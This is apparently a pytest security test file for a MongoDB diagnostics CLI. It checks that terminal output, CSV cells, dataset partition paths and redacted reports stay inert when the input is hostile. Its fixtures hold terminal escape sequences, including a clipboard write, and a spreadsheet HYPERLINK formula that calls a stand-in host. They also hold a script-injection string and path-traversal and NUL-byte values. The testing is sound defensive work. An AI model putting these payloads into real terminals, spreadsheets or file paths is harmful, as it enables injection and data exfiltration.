"""Issue 19 §3: strings from customer files carry no attack into an output: no terminal
escape reaches a terminal, no formula a spreadsheet, no separator or NUL a dataset path,
and redaction replaces a namespace whole whatever it holds."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import polars as pl
import pytest
from crafted_nodes import START, slow_query_line, startup_line, write_node
from hypothesis import given
from hypothesis import strategies as st

from ftdc.untrusted import UNSAFE, cell, printable, safe_name

ROOT = Path(__file__).resolve().parents[1]
DEMO = ROOT / "samples"
# Window title (OSC 0), clipboard write (OSC 52), clear screen, concealed text, an 8-bit OSC
# and a right-to-left override: each does something to a terminal when printed raw.
TITLE, CLIPBOARD, CLEAR, CONCEAL = "\x1b]0;pwned\x07", "\x1b]52;c;ZXZpbA==\x07", "\x1b[2J\x1b[H", "\x1b[8m"
ATTACKS = [TITLE, CLIPBOARD, CLEAR, CONCEAL, "\x9d0;x\x9c", "\u202e"]


def run_cli(*args, columns: int = 120) -> subprocess.CompletedProcess:
    env = {**os.environ, "COLUMNS": str(columns)}
    return subprocess.run(
        [sys.executable, "-m", "cli", *map(str, args)], capture_output=True, text=True, env=env, cwd=ROOT, timeout=300
    )


def assert_inert(*texts: str) -> None:
    """No control character but newline and tab: the CLI's own output is plain text when not
    on a terminal, so any other one came from the input."""
    for text in texts:
        raw = sorted({m[0] for m in UNSAFE.finditer(text)} - {"\n", "\t"})
        assert not raw, f"{raw!r} reached the output: {text[:400]!r}"


@pytest.fixture(scope="module")
def hostile_node(tmp_path_factory) -> Path:
    """A node whose host name, version, replica set and a metric name carry terminal escapes."""
    return write_node(
        tmp_path_factory.mktemp("hostile") / "diagnostic.data",
        hostname=f"db{TITLE}one",
        version=f"7.0.1{CLEAR}",
        replica_set=f"rs{CLIPBOARD}0",
        extra={f"evil{CLIPBOARD}": 1, f"x{CONCEAL}hidden\u202e": 2},
    )


# --- terminal escapes ------------------------------------------------------------------


@pytest.mark.parametrize("attack", ATTACKS)
def test_printable_shows_every_control_character_and_nothing_else_changes(attack):
    shown = printable(f"a{attack}b\nc\td")
    assert not UNSAFE.search(shown.replace("\n", "").replace("\t", ""))
    assert shown.startswith("a") and shown.endswith("b\nc\td") and ("\\x" in shown or "\\u" in shown)
    assert printable("db-prod-01.example.net [rs0] ünïcode ✓") == "db-prod-01.example.net [rs0] ünïcode ✓"


def test_summary_shows_escapes_from_host_version_and_replica_set(hostile_node):
    result = run_cli(hostile_node)
    assert result.returncode == 0, result.stderr
    assert_inert(result.stdout, result.stderr)
    assert "db\\x1b]0;pwned\\x07one:27017" in result.stdout and "7.0.1\\x1b[2J" in result.stdout
    assert "rs\\x1b]52;c;ZXZpbA==\\x070" in result.stdout
    as_json = run_cli(hostile_node, "--json")
    assert (
        as_json.returncode == 0 and json.loads(as_json.stdout)["nodes"][0]["node"]["host"] == f"db{TITLE}one"
    )  # JSON keeps the value, escaped
    assert_inert(as_json.stdout)


def test_metrics_prints_one_inert_line_per_metric_even_when_piped(hostile_node):
    result = run_cli("metrics", hostile_node)
    assert result.returncode == 0, result.stderr
    assert_inert(result.stdout)
    lines = result.stdout.splitlines()
    assert all(len(line.split("\t")) == 4 for line in lines)
    assert "evil\\x1b]52;c;ZXZpbA==\\x07" in [line.split("\t")[0] for line in lines]
    assert "x\\x1b[8mhidden\\u202e" in [line.split("\t")[0] for line in lines]


@pytest.fixture(scope="module")
def hostile_logs(tmp_path_factory) -> Path:
    """A log whose namespace is a formula and carries escapes, in a file whose name does too."""
    folder = tmp_path_factory.mktemp("logs")
    lines = [
        startup_line(START, f"db{TITLE}one"),
        slow_query_line(START, f"shop{CLIPBOARD}.orders"),
        slow_query_line(START, '=HYPERLINK("http://x.example/?"&A1,"click").c'),
        "not a log line " + CLEAR,
    ]
    (folder / f"mongod{TITLE}.log").write_text("\n".join(lines) + "\n")
    return folder


@pytest.mark.parametrize("fmt", ["table", "json", "csv"])
def test_logs_output_in_every_format_is_inert(hostile_logs, fmt):
    result = run_cli("logs", hostile_logs, "--format", fmt)
    assert result.returncode == 0, result.stderr
    assert_inert(result.stdout, result.stderr)
    assert re.search(r"\\(x1b|u001b)\]52;c;ZXZpbA==", result.stdout)  # shown, as JSON escapes it in JSON
    assert (
        "could not be read" in result.stderr and "mongod\\x1b]0;pwned\\x07.log" in result.stderr
    )  # the warning names the file, shown
    problems = run_cli("logs", hostile_logs, "--format", fmt, "--problems")
    assert problems.returncode == 0 and re.search(r"\\(x1b|u001b)\[2J", problems.stdout)
    assert_inert(problems.stdout, problems.stderr)


def test_an_error_naming_input_is_inert(tmp_path):
    empty = tmp_path / f"node{CLEAR}"
    empty.mkdir()
    result = run_cli(empty)
    assert result.returncode == 2 and "no FTDC" in result.stderr and "node\\x1b[2J" in result.stderr
    assert_inert(result.stderr)


# --- spreadsheet formulas ----------------------------------------------------------------

FORMULA_STARTS = "=+-@\t\r"


@given(st.text(max_size=30))
def test_no_cell_is_a_formula_and_numbers_stay_numbers(text):
    made = cell(text)
    if text[:1] in FORMULA_STARTS and text[:1]:
        number = re.fullmatch(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?", text)
        assert made == (text if number else "'" + text)
    else:
        assert made == text


def test_logs_csv_cells_are_not_formulas(hostile_logs):
    result = run_cli("logs", hostile_logs, "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert '\'=HYPERLINK("http://x.example/?"&A1,"click").c' in [r["ns"] for r in rows]
    assert all(
        not value or value[0] not in FORMULA_STARTS or re.fullmatch(r"-?[\d.]+", value) for r in rows for value in r.values()
    )


def test_csv_export_header_is_not_a_formula(tmp_path):
    node = write_node(
        tmp_path / "diagnostic.data", extra={'=HYPERLINK("http://x.example","click")': 1, "@SUM(A1:A9)": 2, "-5": 3}
    )
    out = tmp_path / "x.csv"
    result = run_cli("export", node, "--out", out)
    assert result.returncode == 0, result.stderr
    header = next(csv.reader(io.StringIO(out.read_text())))
    assert header[0] == "start" and {'\'=HYPERLINK("http://x.example","click")', "'@SUM(A1:A9)", "-5"} <= set(header)
    assert pl.read_csv(out).height == 120


# --- partition names ----------------------------------------------------------------------


@pytest.mark.parametrize("version", ['7/x.0"><script>alert(1)</script>', "7.0\x00evil", "../../7.0", "7.0/../../.."])
def test_a_crafted_version_stays_one_partition_inside_the_dataset(tmp_path, version):
    node = write_node(tmp_path / "n" / "diagnostic.data", version=version)
    out = tmp_path / "dataset"
    result = run_cli("export", node, "--dataset", out)
    assert result.returncode == 0, result.stderr
    files = sorted(p.relative_to(out) for p in out.rglob("*") if p.is_file())
    assert len(files) == 2, files
    family, key, day, part = files[1].parts[1:]
    assert files[1].parts[0] == "samples" and re.fullmatch(r"family=[A-Za-z0-9._-]+", family) and part == "part-0.parquet"
    assert key == "node=db1.example.net_27017" and day == "date=2024-05-14"
    assert files[0] == Path("nodes") / "db1.example.net_27017.parquet"
    assert set(tmp_path.iterdir()) == {tmp_path / "n", out}  # nothing written beside the dataset
    scanned = pl.scan_parquet(out / "samples", hive_partitioning=True).select("family", "node").unique().collect()
    assert scanned.height == 1 and scanned["family"][0] == family.removeprefix("family=")


@given(st.text(max_size=40))
def test_safe_name_is_one_visible_component(text):
    name = safe_name(text)
    assert name and re.fullmatch(r"[A-Za-z0-9._-]+", name) and name[0] not in "._" and name not in (".", "..")


# --- redaction ------------------------------------------------------------------------------


def test_a_namespace_holding_slashes_is_replaced_whole():
    from analysis.outputs.report import Redactor

    r = Redactor()
    pseudonym = r.ns("acmepay.payroll/2024/q1")
    text = r.text(
        'COLLSCAN on acmepay.payroll/2024/q1; db.getSiblingDB("acmepay").getCollection("payroll/2024/q1"); see /var/log/mongo/mongod.log'
    )
    assert text == f'COLLSCAN on {pseudonym}; db.getSiblingDB("db-1").getCollection("coll-1"); see mongod.log'


def test_redacted_terminal_json_and_html_hold_no_part_of_a_slashed_namespace(tmp_path):
    log = tmp_path / "mongod.log"
    log.write_text(
        (DEMO / "mongod.log")
        .read_text()
        .replace("shop.orders", "acmepay.payroll/2024/q1")
        .replace('"orders"', '"payroll/2024/q1"')
    )
    shown = run_cli(DEMO / "diagnostic.data", "--log", log, "--redact", "--report", tmp_path / "r.html")
    as_json = run_cli(DEMO / "diagnostic.data", "--log", log, "--redact", "--json")
    assert shown.returncode == 0 and as_json.returncode == 0, shown.stderr + as_json.stderr
    plain = run_cli(DEMO / "diagnostic.data", "--log", log, "--json")
    assert "acmepay.payroll/2024/q1" in plain.stdout  # the namespace reaches the unredacted output
    for text in (shown.stdout, as_json.stdout, (tmp_path / "r.html").read_text()):
        assert "db-1.coll-" in text
        assert not re.search(r"acmepay|payroll|2024/q1", text), re.search(r".{40}(acmepay|payroll|2024/q1).{40}", text)
